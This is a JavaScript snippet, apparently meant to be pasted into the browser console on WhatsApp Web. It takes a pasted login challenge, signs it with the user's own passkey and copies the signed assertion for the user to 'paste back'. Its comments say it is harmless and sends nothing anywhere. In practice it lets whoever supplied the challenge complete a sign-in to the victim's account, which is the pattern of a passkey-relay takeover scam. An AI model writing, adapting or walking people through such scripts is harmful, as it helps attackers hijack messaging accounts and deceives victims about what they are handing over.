// Signs one request with the passkey of your own WhatsApp account, after you press the button that it adds to this page.
// It sends nothing anywhere: the answer is copied, for you to paste back. Reload the tab, and it is gone.
(() => {
  if (location.origin !== "https://web.whatsapp.com") return alert("web.whatsapp.com?");
  const bytes = (text) => Uint8Array.from(atob(text.replace(/-/g, "+").replace(/_/g, "/")), (c) => c.charCodeAt(0));
  const text = (buffer) => buffer && btoa(String.fromCharCode(...new Uint8Array(buffer)))
    .replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, "");
  const asked = JSON.parse(prompt("1/2: the request that you copied / o pedido que você copiou"));
  const publicKey = {
    rpId: asked.rpId,
    challenge: bytes(asked.challenge),
    timeout: asked.timeout,
    userVerification: asked.userVerification,
    allowCredentials: asked.allowCredentials.map((one) => ({ ...one, id: bytes(one.id) })),
  };
  const button = document.createElement("button");
  button.id = "passkey-sign";
  button.textContent = "Sign and copy / Assinar e copiar";
  button.style.cssText = "position:fixed;inset:16px 16px auto;z-index:99999;padding:24px;font-size:20px;background:#fff;color:#000";
  button.onclick = async () => {
    try {
      const { id, rawId, type, response } = await navigator.credentials.get({ publicKey });
      const answer = JSON.stringify({ id, rawId: text(rawId), type, response: {
        clientDataJSON: text(response.clientDataJSON), authenticatorData: text(response.authenticatorData),
        signature: text(response.signature), userHandle: text(response.userHandle) } });
      await navigator.clipboard.writeText(answer).catch(() => prompt("2/2: copy / copie", answer));
      button.textContent = "Copied / Copiado";
    } catch (error) {
      button.textContent = error.name + ": " + error.message;
    }
  };
  document.body.append(button);
})();
